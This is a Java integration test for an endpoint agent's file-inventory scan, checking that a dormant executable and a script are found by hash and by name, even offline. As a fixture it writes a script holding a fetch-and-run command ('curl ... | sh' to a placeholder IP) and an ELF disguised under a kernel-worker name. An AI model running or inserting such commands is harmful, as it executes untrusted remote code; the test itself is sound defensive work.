package dev.kiroku.it;

import com.fasterxml.jackson.databind.JsonNode;
import dev.kiroku.agent.AgentConfig;
import dev.kiroku.agent.uplink.FleetAgent;
import dev.kiroku.server.KirokuServer;
import dev.kiroku.server.ServerConfig;
import dev.kiroku.server.inventory.InventoryScans;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.security.MessageDigest;
import java.time.Duration;
import java.time.InstantSource;
import java.util.HexFormat;
import java.util.concurrent.ThreadLocalRandom;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * The agents' inventory scan with a real server and a real enrolled agent: the server sends the scan at enrolment,
 * the agent hashes the executables and scripts under the scanned directories, and the server's file inventory then
 * answers "which endpoints have this SHA-256 or this file name" for a file that never ran, also once the endpoint
 * is offline.
 */
class InventoryScanTest {

    @Test
    void aDormantExecutableIsFoundByHashAndByNameAfterTheEnrolmentScan(@TempDir Path work) throws Exception {
        Path drop = Files.createDirectories(work.resolve("drop"));
        byte[] elf = new byte[4096];
        ThreadLocalRandom.current().nextBytes(elf);
        elf[0] = 0x7f;
        elf[1] = 'E';
        elf[2] = 'L';
        elf[3] = 'F';
        Path dormant = Files.write(drop.resolve("kworker-upd"), elf);
        Files.setPosixFilePermissions(dormant, PosixFilePermissions.fromString("rwxr-xr-x"));
        Path script = Files.writeString(drop.resolve("notes"), "#!/bin/sh\ncurl -s http://198.51.100.7/x | sh\n");
        Files.writeString(drop.resolve("readme.txt"), "not an executable");
        String sha256 = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(elf));
        String md5 = HexFormat.of().formatHex(MessageDigest.getInstance("MD5").digest(elf));
        String sha1 = HexFormat.of().formatHex(MessageDigest.getInstance("SHA-1").digest(elf));

        String previous = System.getProperty(InventoryScans.ROOTS_PROPERTY);
        System.setProperty(InventoryScans.ROOTS_PROPERTY, drop.toString());
        KirokuServer server = null;
        FleetAgent agent = null;
        try {
            server = new KirokuServer(new ServerConfig(work.resolve("server"), "127.0.0.1", 0, Duration.ofDays(30))
                    .withFleetPort(0), InstantSource.system()).start();
            Api api = new Api(server.url(), server.credentialsFile());
            AgentConfig config = AgentConfig.defaults(work.resolve("agent"), "inventory-host")
                    .withSensors(new AgentConfig.Sensors(false, false, false, false));
            agent = FleetAgent.start(config, "127.0.0.1:" + server.fleet().port(),
                    server.fleet().createToken(Duration.ofMinutes(5), "test", "test"), Duration.ofMillis(300), InstantSource.system());
            String agentId = agent.agent().agentId();

            await().atMost(Duration.ofSeconds(60)).until(() -> api.get("/api/v1/inventory?sha256=" + sha256).path("entries").size() == 1);
            JsonNode entry = api.get("/api/v1/inventory?sha256=" + sha256).path("entries").get(0);
            assertThat(entry.path("agentId").asText()).isEqualTo(agentId);
            assertThat(entry.path("hostName").asText()).isEqualTo("inventory-host");
            assertThat(entry.path("path").asText()).isEqualTo(dormant.toString());
            assertThat(entry.path("size").asLong()).isEqualTo(4096);
            assertThat(entry.path("executed").asBoolean()).isFalse();
            assertThat(entry.path("md5").asText()).isEqualTo(md5);
            assertThat(entry.path("sha1").asText()).isEqualTo(sha1);
            // Who else has it, by the hashes shared indicator lists carry:
            assertThat(api.get("/api/v1/inventory?md5=" + md5.toUpperCase()).path("entries")).singleElement()
                    .satisfies(e -> assertThat(e.path("path").asText()).isEqualTo(dormant.toString()));
            assertThat(api.get("/api/v1/inventory?sha1=" + sha1).path("entries")).singleElement()
                    .satisfies(e -> assertThat(e.path("sha256").asText()).isEqualTo(sha256));

            JsonNode scans = api.get("/api/v1/inventory/scans").path("scans");
            assertThat(scans).singleElement().satisfies(s -> {
                assertThat(s.path("agentId").asText()).isEqualTo(agentId);
                assertThat(s.path("taken").asBoolean()).isTrue();
                assertThat(s.path("executables").asInt()).isEqualTo(2);
            });

            agent.close();
            agent = null;
            // The endpoint is gone; the inventory still answers for it, by name too.
            assertThat(api.get("/api/v1/inventory?name=notes").path("entries")).singleElement()
                    .satisfies(e -> assertThat(e.path("path").asText()).isEqualTo(script.toString()));
        } finally {
            if (agent != null) agent.close();
            if (server != null) server.close();
            if (previous == null) System.clearProperty(InventoryScans.ROOTS_PROPERTY);
            else System.setProperty(InventoryScans.ROOTS_PROPERTY, previous);
        }
    }
}
